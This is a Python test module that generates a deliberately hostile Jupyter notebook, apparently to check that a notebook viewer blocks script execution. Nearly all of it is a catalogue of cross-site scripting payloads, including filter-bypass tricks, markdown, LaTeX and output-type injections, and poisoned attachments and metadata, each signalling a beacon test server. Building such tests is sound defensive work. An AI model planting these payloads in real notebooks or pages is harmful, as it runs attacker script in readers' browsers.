"""Payloads that a student might put into a notebook to run code in the browser of the person who opens it.

A payload that runs reveals itself: it changes the page's title, or requests a path with its name from a test server.
"""

import base64
import json

from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

RUN = "void(document.title='ran NAME',new Image().src='BEACON/NAME')"
DATA_PAGE = "data:text/html;base64," + base64.b64encode(b"<script>parent.document.title='ran'</script>").decode()
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><script>{RUN}</script>"
SVG += "<image href='BEACON/NAME'/></svg>"

MARKUP = {
    "script": f"<script>{RUN}</script>",
    "script_in_script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script_src": "<script src='BEACON/NAME'></script>",
    "onerror": f'<img src=x onerror="{RUN}">',
    "onerror_slashes": f'<img/src=x/onerror="{RUN}">',
    "onload_svg": f'<svg onload="{RUN}"></svg>',
    "in_math": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "details": f'<details open ontoggle="{RUN}">x</details>',
    "autofocus": f'<input autofocus onfocus="{RUN}">',
    "video": f'<video><source onerror="{RUN}"></video>',
    "animate": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "iframe_srcdoc": "<iframe srcdoc=\"<script>parent.document.title='ran NAME'</script>\"></iframe>",
    "iframe_src": "<iframe src='BEACON/NAME'></iframe>",
    "object": f"<object data='{DATA_PAGE}'></object><embed src='BEACON/NAME'>",
    "refresh": "<meta http-equiv=refresh content='0;url=BEACON/NAME'>",
    "base": "<base href='BEACON/NAME/'><img src='relative'>",
    "style": "<style>body{background:url(BEACON/NAME)} @import 'BEACON/NAME';</style>",
    "style_attribute": "<div style='background:url(BEACON/NAME)'>x</div>",
    "link": "<link rel=stylesheet href='BEACON/NAME'><link rel=prefetch href='BEACON/NAME'>",
    "image": "<img src='BEACON/NAME' srcset='BEACON/NAME 2x'><picture><source srcset='BEACON/NAME'></picture>",
    "body_background": "<body background='BEACON/NAME' onload=\"" + RUN + '"><table background="BEACON/NAME"></table>',
    "form": "<form action='BEACON/NAME' id=f><button formaction='BEACON/NAME'>Show my marks</button></form>",
    "javascript_link": f'<a href="javascript:{RUN}">x</a>',
    "javascript_link_spaced": f'<a href=" java\tscript:{RUN}">x</a>',
    "javascript_link_entity": f'<a href="&#106;avascript&colon;{RUN}">x</a>',
    "files_link": f'<a href="files/javascript:{RUN}">x</a>',
    "data_link": f'<a href="{DATA_PAGE}">x</a>',
    "vbscript_link": f'<a href="vbscript:{RUN}">x</a>',
    "comment": f"<!--><img src=x onerror={RUN}>-->",
    "cdata": f"<![CDATA[<img src=x onerror={RUN}>]]>",
    "title_end": f"</pre></div></body></html><script>{RUN}</script>",
    "mathjax_config": f"<script type='text/x-mathjax-config'>{RUN}</script>",
    "template": f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    "image_data_svg": "<img src='data:image/svg+xml;base64," + base64.b64encode(SVG.encode()).decode() + "'>",
    "image_data_breaks_out": f"<img src='data:image/png;base64,AAAA\" onerror=\"{RUN}'>",
    "clobber": "<a id=MathJax name=MathJax href='BEACON/NAME'>x</a><form name=body></form>",
}
MARKDOWN = {
    "md_link": f"[x](javascript:{RUN})",
    "md_link_files": f"[x](files/javascript:{RUN})",
    "md_autolink": f"<javascript:{RUN}>",
    "md_reference": f"[x][y]\n\n[y]: javascript:{RUN}",
    "md_image": "![x](BEACON/NAME)",
    "md_image_breaks_out": f'![x](data:image/png;base64,AA"onerror="{RUN})',
    "md_fence": f'```"><script>{RUN}</script>\nx\n```',
    "md_mermaid": f"```mermaid\n</pre><script>{RUN}</script>\n```",
    "md_math": f"$x < y <img src=x onerror={RUN}>$ and $$\\href{{javascript:{RUN}}}{{x}}$$",
    "md_heading": f"# x <script>{RUN}</script>",
    "md_table": f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
}
OUTPUTS = {
    "out_javascript": {"application/javascript": RUN},
    "out_svg": {"image/svg+xml": SVG},
    "out_svg_breaks_out": {"image/svg+xml": f"'\"><script>{RUN}</script>"},
    "out_markdown": {"text/markdown": f"<script>{RUN}</script> [x](javascript:{RUN})"},
    "out_latex": {"text/latex": f"</div><script>{RUN}</script> $\\href{{javascript:{RUN}}}{{x}} \\unicode{{<b>}}$"},
    "out_latex_macros": {"text/latex": "$\\require{html}\\def\\x{\\x\\x}\\x\\style{background:url(BEACON/NAME)}{x}$"},
    "out_png_breaks_out": {"image/png": f'AAAA" onerror="{RUN}'},
    "out_plain": {"text/plain": f"</pre><script>{RUN}</script>"},
    "out_mermaid": {"text/vnd.mermaid": f"</pre><script>{RUN}</script>"},
    "out_widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "m"}, "text/plain": "x"},
    "out_pdf": {"application/pdf": "x"},
}
SIZES = {"image/png": {"width": f"1 onerror={RUN}", "height": f"1 onload={RUN}", "alt": f'"><script>{RUN}</script>'}}


def named(value, name, beacon):
    """The payload with its own name and the server's address filled in."""
    text = json.dumps(value).replace("NAME", name).replace("BEACON", beacon)
    return json.loads(text)


def hostile_notebook(beacon):
    cells = [new_markdown_cell(named(text, name, beacon)) for name, text in (MARKUP | MARKDOWN).items()]
    run = named(RUN, "attachment", beacon)
    attached = new_markdown_cell("![a](attachment:a.svg) ![b](attachment:b) ![c](attachment:c.png)")
    attached["attachments"] = {
        "a.svg": {"image/svg+xml": base64.b64encode(named(SVG, "attachment", beacon).encode()).decode()},
        "b": {"text/html": base64.b64encode(f"<script>{run}</script>".encode()).decode()},
        "c.png": {"image/png": f'AAAA" onerror="{run}'},
    }
    cells += [attached, new_markdown_cell("![missing](attachment:missing.png)"), new_markdown_cell("> " * 5000)]
    for name, text in MARKUP.items():
        text = named(text, name, beacon)
        outputs = [
            new_output("display_data", data={"text/html": text}),
            new_output("display_data", data={"text/html": text}, metadata={"text/html": {"isolated": True}}),
            new_output("stream", text=f"\x1b[31{text}\x1b[38;2;1;2;3m{text}\x1b[<script>m"),
            new_output("error", ename=text, evalue=text, traceback=[f"\x1b[0;31m{text}\x1b[0m", text]),
        ]
        cell = new_code_cell(text, outputs=outputs)
        cell.execution_count = text  # the kernel chooses this value
        cells.append(cell)
    shown = [new_output("display_data", data=named(data, name, beacon)) for name, data in OUTPUTS.items()]
    shown.append(new_output("display_data", data={"image/png": PNG}, metadata=named(SIZES, "sizes", beacon)))
    cells.append(new_code_cell("", outputs=shown))
    notebook = new_notebook()
    notebook.cells = cells  # not validated, like a kernel's messages
    run = named(RUN, "metadata", beacon)
    notebook.metadata.update(
        title=f"</title><script>{run}</script>",
        language_info={"name": f'"><script>{run}</script>', "pygments_lexer": f'"><script>{run}</script>'},
        widgets={"application/vnd.jupyter.widget-state+json": {"state": {"m": {}}, "x": f"</script><script>{run}"}},
    )
    return notebook
